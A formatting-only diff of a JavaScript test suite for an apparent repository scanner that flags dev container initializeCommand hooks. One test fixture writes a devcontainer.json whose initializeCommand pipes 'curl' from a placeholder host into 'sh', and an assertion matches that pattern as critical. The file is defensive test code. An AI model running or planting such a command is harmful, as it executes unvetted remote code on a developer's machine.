@@ -21,7 +21,10 @@ describe(`${ID} findings and map`, () => {
     const f = findingsOf(report, ID)[0];
     assert.ok(f);
     assert.equal(f.severity, 'critical');
-    assert.match(f.message, /^Opening this folder in a dev container runs `curl .* \| sh` on your machine, not in the container \(initializeCommand\): /);
+    assert.match(
+      f.message,
+      /^Opening this folder in a dev container runs `curl .* \| sh` on your machine, not in the container \(initializeCommand\): /,
+    );
   });
 
   it('is high for the array form running a script of the repository, which becomes the entry', async () => {
@@ -37,7 +40,12 @@ describe(`${ID} findings and map`, () => {
     const report = await scanFixture(fixture('match', 'initialize-object-form'));
     const names = report.executionMap.filter(x => x.kind === 'devcontainer-initialize').map(x => x.name);
     assert.deepEqual(names, ['initializeCommand network', 'initializeCommand env']);
-    assert.deepEqual(findingsOf(report, ID).map(f => f.severity).sort(), ['critical', 'low']);
+    assert.deepEqual(
+      findingsOf(report, ID)
+        .map(f => f.severity)
+        .sort(),
+      ['critical', 'low'],
+    );
   });
 
   it('reads a root .devcontainer.json', async () => {
@@ -47,7 +55,10 @@ describe(`${ID} findings and map`, () => {
 
   it('grades docker housekeeping as low', async () => {
     const report = await scanFixture(fixture('benign', 'initialize-docker-network'));
-    assert.deepEqual(findingsOf(report, ID).map(f => f.severity), ['low']);
+    assert.deepEqual(
+      findingsOf(report, ID).map(f => f.severity),
+      ['low'],
+    );
   });
 });
 
@@ -60,7 +71,10 @@ describe(`${ID} bad input`, () => {
     const dir = mkdtempSync(join(tmpdir(), 'airlock-devc-'));
     dirs.push(dir);
     mkdirSync(join(dir, '.devcontainer'));
-    writeFileSync(join(dir, '.devcontainer', 'devcontainer.json'), '{ "initializeCommand": "curl -s https://x.invalid/a | sh" "postCreateCommand": 42, "onCreateCommand": {"a": null, "b": [1, "x"]} ');
+    writeFileSync(
+      join(dir, '.devcontainer', 'devcontainer.json'),
+      '{ "initializeCommand": "curl -s https://x.invalid/a | sh" "postCreateCommand": 42, "onCreateCommand": {"a": null, "b": [1, "x"]} ',
+    );
     const report = await scanFixture(dir);
     assert.deepEqual(report.errors, []);
     assert.equal(findingsOf(report, ID, 'critical').length, 1);
